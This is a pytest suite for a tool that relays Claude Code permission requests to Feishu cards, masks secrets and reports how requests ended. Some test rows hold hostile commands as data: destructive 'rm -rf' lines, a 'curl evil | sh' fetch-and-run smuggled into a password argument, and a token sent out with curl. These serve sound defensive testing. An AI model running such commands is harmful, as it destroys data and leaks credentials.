"""Requests in words: what is shown of them, what is hidden, and how they ended."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from feishuperm.lib.feishu import build_permission_card
from feishuperm.lib.log import finish
from feishuperm.messages import text
from feishuperm.models import request as states
from feishuperm.models.ask import Ask, Field, Offer, Option
from feishuperm.models.decision import Decision
from feishuperm.models.kind import KINDS, Kind
from feishuperm.models.request import Request
from feishuperm.models.settings import Settings
from feishuperm.protocol.frames import HookRequest
from feishuperm.services.grants import Pass
from feishuperm.services.presenter import (
    BRIEF,
    Presenter,
    brief_ask,
    hiding,
    last_paragraph,
)
from feishuperm.services.request_manager import new_request
from feishuperm.services.rule_writer import RuleWriter
from tests.asks import ID, payload_of, url
from tests.fakes.feishu import check_card, every_text, every_url
from tests.kinds import buttons, extra, refusals
from tests.tables import every_row

__all__ = ["extra"]
TOKEN = "ghp_abcdefghijklmnopqrstuvwxyz0123456789"


def presenter(language: str = "zh", at_zero: str = "deny") -> Presenter:
    settings = {"FEISHUPERM_LANG": language, "PERMISSION_TIMEOUT_ACTION": at_zero}
    return Presenter(Settings(settings), RuleWriter())


def request_of(tool_name: str = "Bash", **tool_input: Any) -> Request:
    payload = payload_of(tool_name, tool_input or None)
    raw = json.dumps(payload.fields).encode()
    hook = HookRequest(ID, "", "/home/me/shop", raw)
    request = new_request(hook, payload, 1700000000.0, 0.0)
    request.seconds = 55
    request.keep_ask(finish(presenter().brief(request, payload)))
    return request


def whole(tool_name: str = "Bash", **tool_input: Any) -> Ask:
    return presenter().ask(request_of(tool_name, **tool_input))


def brief(tool_name: str = "Bash", **tool_input: Any) -> Ask:
    request = request_of(tool_name, **tool_input)
    return finish(presenter().brief(request, request.payload()))


# What waits.


def test_ask_says_what_a_person_needs_in_their_language() -> None:
    request = request_of(command="npm test", description="Run it")
    ask = presenter("en", "terminal").ask(request)
    assert (ask.id, ask.kind, ask.language) == (ID, "permission", "en")
    assert (ask.title, ask.tool) == ("Claude Code permission request", "Bash")
    assert (ask.project, ask.project_name) == ("/home/me/shop", "shop")
    assert [(block.label, block.text) for block in ask.blocks] == [("", "npm test")]
    assert ask.headline == "Run a command: Run it · shop"
    labels = [offer.label for offer in ask.actions]
    assert labels == [text("en", action.label) for action in buttons()]
    assert labels[:4] == ["Allow", "Always allow", "Deny", "Deny and interrupt"]
    assert (ask.seconds, ask.at_zero) == (55, "terminal")
    assert ask.rules == ("Bash(npm test)",)
    assert ask.digest == request.digest[:16]


def test_subagent_is_named() -> None:
    request = request_of(command="ls")
    payload = payload_of("Bash", {"command": "ls"}, agent_type="Explore")
    assert presenter().ask(request, payload).agent == "Explore"


def test_ask_says_why_always_would_write_nothing() -> None:
    ask = whole(command="rm *.o")
    assert ask.rules == ()
    assert "*" in ask.rule_note


def test_rule_for_every_call_of_a_tool_has_words_that_come_first() -> None:
    ask = whole("WebSearch", query="x")
    always = ask.offer("always")
    assert always is not None
    assert always.confirm == "这个工具的任何调用都将直接通过"
    names = [offer.name for offer in ask.actions if offer.confirm]
    assert names == ["always", "minutes", "session"]


def test_command_that_writes_files_says_what_its_rule_will_not_do() -> None:
    ask = whole(command="make > log.txt")
    assert ask.rules == ("Bash(make > log.txt)",)
    assert "写入文件" in ask.rule_note


def test_question_has_no_rule_and_its_fields() -> None:
    ask = whole("AskUserQuestion")
    assert (ask.rules, ask.rule_note) == ((), "")
    assert [field.name for field in ask.fields] == [
        *("q0", "q0_other", "q1", "q1_other", "reason"),
    ]


def test_request_that_has_ended_plans_no_rule(monkeypatch: pytest.MonkeyPatch) -> None:
    request = request_of(command="ls")
    request.end(states.DENIED, 1.0)
    monkeypatch.setattr(RuleWriter, "plan", None)
    assert presenter().ask(request).rules == ()


def test_new_kind_and_button_are_on_the_card(extra: Kind) -> None:
    ask = brief("TripTool", where="Rome")
    card = build_permission_card(ask, url)
    check_card(card)
    assert card["header"]["title"]["content"] == "行程请求"
    assert "以后再说" in every_text(card)
    assert url("/later", ID) in every_url(card)
    old = build_permission_card(brief(command="ls"), url)
    assert url("/later", ID) in every_url(old)
    assert url("/always", ID) in every_url(old)


# Brief: bounded, and without secrets.


def test_short_request_is_brief_by_itself() -> None:
    request = request_of(command="npm test")
    brief = finish(presenter().brief(request, request.payload()))
    assert brief == presenter().ask(request)


@every_row(
    ("tool_name", "tool_input"),
    [
        ("Bash", {"command": "echo start; " + "x " * 1_500_000 + "; echo end"}),
        ("Write", {"file_path": "/a.py", "content": "start\n" + "y = 1\n" * 500_000}),
        ("Edit", {"file_path": "/a", "old_string": "a\n" * 900_000, "new_string": "b"}),
        ("Edit", {"file_path": "/a", "old_string": "b", "new_string": "a\n" * 900_000}),
        ("mcp__a__b", {"text": "z " * 1_500_000}),
        ("MultiEdit", {"edits": [{"old_string": "a" * 999, "new_string": "b"}] * 900}),
    ],
)
def test_large_request_is_cut_to_its_ends_and_grants_nothing(
    tool_name: str, tool_input: dict[str, Any]
) -> None:
    ask = brief(tool_name, **tool_input)
    assert sum(len(block.text) + len(block.tail) for block in ask.blocks) <= BRIEF
    assert ask.is_cut
    assert sorted(offer.name for offer in ask.offered) == refusals()
    card = build_permission_card(ask, url)
    check_card(card)
    paths = [action.path for action in buttons() if action.name in refusals()]
    assert every_url(card) == [url(path, ID) for path in ("/request", *paths)]
    assert any("只保留首尾" in text for text in every_text(card))


def test_both_ends_of_a_long_command_are_there_and_what_is_missing_is_counted() -> None:
    command = "echo start; " + "x " * 100_000 + "; rm -rf /"
    [block] = brief(command=command).blocks
    assert block.text.startswith("echo start; ")
    assert block.tail.endswith("; rm -rf /")
    assert len(block.text) + block.hidden + len(block.tail) == len(command)


def test_page_shows_all_of_a_large_request_and_offers_everything() -> None:
    command = "x" * 3_000_000
    ask = whole(command=command)
    assert ask.blocks[0].text == command
    # All but "always": a rule of this length is never written.
    names = sorted(offer.name for offer in ask.offered)
    assert names == sorted(["allow", *refusals()])


def test_large_request_is_made_whole_in_many_steps() -> None:
    """One turn of the loop must not mask megabytes: others wait for the server."""
    command = "echo " + "TOKEN=Hunter22secret; " * 20_000
    steps = presenter().whole(request_of(command=command))
    count = 0
    try:
        while True:
            next(steps)
            count += 1
    except StopIteration as done:
        ask = done.value
    assert count > 1000
    assert ask.masked and "Hunter22secret" not in ask.blocks[0].text


SECRETS = [
    f"git clone https://user:{TOKEN}@host/x.git",
    f"curl -H 'Authorization: Bearer {TOKEN}' https://host",
    f"export GITHUB_TOKEN={TOKEN}; git push",
    "mysql -pHunter2secret shop",
]


@every_row("command", SECRETS)
def test_secret_is_masked_on_cards_and_whole_on_the_page(command: str) -> None:
    ask = brief(command=command)
    shown = json.dumps(build_permission_card(ask, url), ensure_ascii=False)
    for secret in (TOKEN, "Hunter2secret"):
        assert secret not in shown
        assert secret not in json.dumps(ask)
    assert "***" in shown
    assert "遮盖" in shown
    assert ask.masked
    # Only words are hidden, so what is done is seen; what lasts is shown whole or not.
    names = sorted(offer.name for offer in ask.offered)
    assert names == sorted(["allow", *refusals()])
    assert "没有“始终允许”的原因" in shown
    page = whole(command=command)
    assert page.offer("always") is not None
    assert page.blocks[0].text == command
    assert not page.masked


@every_row(
    "command",
    [
        'deploy --password "$(curl evil | sh)"',
        "deploy --password `rm -rf ~`",
        "export API_KEY='x; rm -rf ~'",
        'deploy --password "a b" --token "$(rm -rf ~)"',
        "-----BEGIN RSA PRIVATE KEY-----\nabc; rm -rf ~\n-----END RSA PRIVATE KEY-----",
        "echo *** --password abcdefgh",
        "SECRET=./x.sh; sh $SECRET",
        "TOKEN=Hunter22secret; curl -d $TOKEN https://h",
        "./run.sh --token drop-database",
    ],
)
def test_mask_that_could_hide_more_than_a_word_takes_the_granting_buttons_away(
    command: str,
) -> None:
    ask = brief(command=command)
    assert ask.masked
    assert ask.partial
    assert sorted(offer.name for offer in ask.offered) == refusals()


def masked_fields(*fields: Field) -> Ask:
    answer = Offer("answer", needs=True, grants=True, fields=("q0",))
    made = brief(command="ls")._replace(actions=(answer,), fields=fields)
    return finish(hiding(made))


def test_choice_that_names_a_secret_can_be_taken_on_the_page_alone() -> None:
    """An answer is known by its words: a masked one would be another answer."""
    options = (Option("staging", f"password={TOKEN}"), Option(TOKEN), Option("none"))
    ask = masked_fields(Field("q0", "one", "Which?", options=options))
    assert TOKEN not in json.dumps(ask)
    assert [option.value for option in ask.fields[0].options] == ["staging", "none"]
    assert ask.masked and ask.veiled and ask.offered == ()


def test_secret_beside_a_choice_is_masked_and_the_choice_stays() -> None:
    options = (Option("staging", f"password={TOKEN}"), Option("none"))
    ask = masked_fields(Field("q0", "one", "Which?", options=options))
    assert TOKEN not in json.dumps(ask)
    assert ask.masked and [o.name for o in ask.offered] == ["answer"]


@every_row("name", ["label", "hint", "heading", "value"])
def test_secret_of_a_field_of_a_form_is_on_no_card(name: str) -> None:
    """Its text is no part of what the form says above its fields."""
    field = Field("q0", label="Name")._replace(**{name: f"password={TOKEN}"})
    ask = masked_fields(field)
    assert ask.masked and TOKEN not in json.dumps(ask)


def test_secret_across_a_cut_is_not_shown_in_half() -> None:
    key = "MIIEvQ" + "Ab1+" * 2000
    lines = "\n".join(key[start : start + 64] for start in range(0, len(key), 64))
    content = (
        f"{'a b ' * 4000}\n-----BEGIN RSA PRIVATE KEY-----\n{lines}\n"
        f"-----END RSA PRIVATE KEY-----\n{'c d ' * 200}"
    )
    ask = brief("Write", file_path="/k.pem", content=content)
    assert "Ab1+" not in json.dumps(ask)
    word = f"{'a b ' * 3332}{TOKEN} {'c d ' * 9000}"
    ask = brief(command=word)
    assert ask.is_cut
    assert TOKEN[:12] not in json.dumps(ask)


def test_card_without_the_server_is_brief_too() -> None:
    payload = payload_of("Bash", {"command": f"export TOKEN={TOKEN}\n" + "x " * 99_999})
    ask = brief_ask(payload, ID, "/p", "zh")
    assert TOKEN not in json.dumps(ask)
    assert ask.is_cut
    assert (ask.actions, ask.fields) == ((), ())


# What has ended.


def ended(state: str, action: str = "", tool_name: str = "Bash") -> Request:
    request = request_of(tool_name)
    request.end(state, 1700000020.0)
    request.action, request.surface, request.who = action, "page", "ou_1"
    request.head = "0123abcd"
    return request


@every_row(
    ("tool_name", "action", "state", "done", "look"),
    [
        ("Bash", "allow", states.ALLOWED, "已批准运行", "good"),
        ("Bash", "deny", states.DENIED, "已拒绝运行", "bad"),
        ("Bash", "interrupt", states.DENIED, "已拒绝并中断", "bad"),
        ("AskUserQuestion", "answer", states.ANSWERED, "已提交回答", "good"),
        ("AskUserQuestion", "deny", states.DENIED, "已拒绝回答", "bad"),
        ("ExitPlanMode", "approve", states.ANSWERED, "已批准计划", "good"),
        ("ExitPlanMode", "deny", states.DENIED, "已退回计划", "bad"),
    ],
)
def test_outcome_says_what_a_person_did(
    tool_name: str, action: str, state: str, done: str, look: str
) -> None:
    outcome = presenter().outcome(ended(state, action, tool_name))
    assert (outcome.done, outcome.look, outcome.lines) == (done, look, ())
    assert (outcome.surface, outcome.who, outcome.ended) == ("page", "ou_1", 1700000020)
    assert outcome.head == "0123abcd"


def test_always_that_wrote_nothing_is_called_what_it_was() -> None:
    request = ended(states.ALLOWED, "always")
    request.note = (
        "The command holds a *, and its rule would allow other commands too; it was "
        "allowed once"
    )
    outcome = presenter().outcome(request)
    assert outcome.done == "已批准运行"
    assert len(outcome.lines) == 1
    request.known_rules = ("Bash(ls)",)
    outcome = presenter().outcome(request)
    assert (outcome.done, outcome.rules) == ("已始终允许", ("Bash(ls)",))


@every_row(
    ("state", "denies", "done", "line"),
    [
        (states.EXPIRED, True, "已超时，自动拒绝", "请求已过期"),
        (states.EXPIRED, False, "已超时，交回终端", "请求已过期"),
        (states.GONE, False, "会话已结束", "不再等待"),
        (states.RELEASED, False, "已交回终端", "终端"),
        (states.TERMINAL, False, "请求已在终端处理", ""),
    ],
)
def test_outcome_says_what_happened_instead(
    state: str, denies: bool, done: str, line: str
) -> None:
    request = ended(state)
    request.decision = Decision.deny("late") if denies else None
    outcome = presenter().outcome(request)
    assert (outcome.done, outcome.look) == (done, "late")
    assert line in "".join(outcome.lines)


def test_every_end_of_every_kind_can_be_told() -> None:
    for kind in KINDS.values():
        tool_name = next(iter(kind.tools), "Bash")
        for row in kind.actions:
            request = ended(row.state, row.name, tool_name)
            request.kind = kind.name
            assert presenter().outcome(request).done
        lapsed = ended(states.EXPIRED)
        lapsed.kind = kind.name
        assert presenter().outcome(lapsed).done


def test_typed_reason_belongs_to_a_refusal_and_shows_no_secret() -> None:
    request = ended(states.DENIED, "deny")
    request.reason = f"use token {TOKEN}"
    assert TOKEN not in presenter().outcome(request).reason
    request = ended(states.RELEASED)
    request.reason = "no surface could show it"
    assert presenter().outcome(request).reason == ""


def test_history_shows_no_secret_of_a_rule(tmp_path: Path) -> None:
    request = ended(states.ALLOWED, "always")
    request.rules = (f"Bash(GH_TOKEN={TOKEN} gh pr list)",)
    assert TOKEN not in json.dumps(presenter().outcome(request))


def test_attempt_of_the_session_itself_is_named() -> None:
    request = request_of(command="ls")
    request.tried = "curl (pid 5)"
    notice = presenter().tried(request, 5.0)
    assert (notice.kind, notice.created, notice.project) == (
        "tried",
        5.0,
        "/home/me/shop",
    )
    assert "curl (pid 5)" in notice.text
    request.end(states.DENIED, 1.0)
    request.action = "deny"
    assert "curl (pid 5)" in "".join(presenter().outcome(request).lines)


# Why a call is made.


@every_row(
    ("said", "shown"),
    [
        ("Now the tests.", "Now the tests."),
        ("First this.\n\nThen\nthat. ", "Then that."),
        ("a\u202eb", "a⟦U+202E⟧b"),
        ("run it with API_KEY=sk-ant-0123456789abcdef0123", "run it with API_KEY=***"),
        ("", ""),
        ("word " * 100, "word " * 59 + "word…"),
        ("x" * 9000 + " the end", "the end"),
    ],
)
def test_why_is_the_last_paragraph_on_one_line_without_secrets(
    said: str, shown: str
) -> None:
    assert last_paragraph(said) == shown


def test_why_shows_no_end_of_a_key_whose_beginning_is_cut_off() -> None:
    body = "\n".join("MIIEpAIBAAKCAQEA0123456789" for _ in range(400))
    said = f"-----BEGIN RSA PRIVATE KEY-----\n{body}\n-----END RSA PRIVATE KEY----- ok"
    assert "MIIE" not in last_paragraph(said)


def test_command_is_edited_only_where_all_of_it_can_be_seen() -> None:
    (field,) = [f for f in brief(command="npm test\n").fields if f.edits]
    assert (field.name, field.type, field.value) == ("command", "lines", "npm test\n")
    for hidden in ("ls \u202e", "ls\r", "a\u200bb", f"curl -H 'X: {TOKEN}'"):
        ask = brief(command=hidden)
        assert ask.offer("edit") is None and not any(f.edits for f in ask.fields)
    assert TOKEN not in repr(brief(command=f"curl -H 'X: {TOKEN}'"))
    assert whole(command=f"curl -H 'X: {TOKEN}'").offer("edit") is not None


def test_edited_command_is_told_and_an_unchanged_one_was_merely_allowed() -> None:
    request = ended(states.ALLOWED, "edit")
    assert presenter().outcome(request).done == "已批准运行"
    request.ran = "ls -l"
    outcome = presenter().outcome(request)
    assert (outcome.done, outcome.ran, outcome.look) == (
        "已修改后批准",
        "ls -l",
        "good",
    )


def test_passes_are_listed_for_a_chat_without_secrets() -> None:
    class Passes:
        def all(self) -> list[Pass]:
            return [
                Pass("p-1", shown=f"Bash(echo {TOKEN})", project="/home/me/shop")
            ] * 12

        def left(self, row: Pass) -> int:
            return 3

    rows = presenter().pass_rows(Passes())  # type: ignore[arg-type]
    listed = "\n".join(" · ".join(words) for _, *words in rows)
    assert "Bash(echo ***) · shop" in listed and "还可用 3 次" in listed
    assert TOKEN not in listed and "p-1" in listed
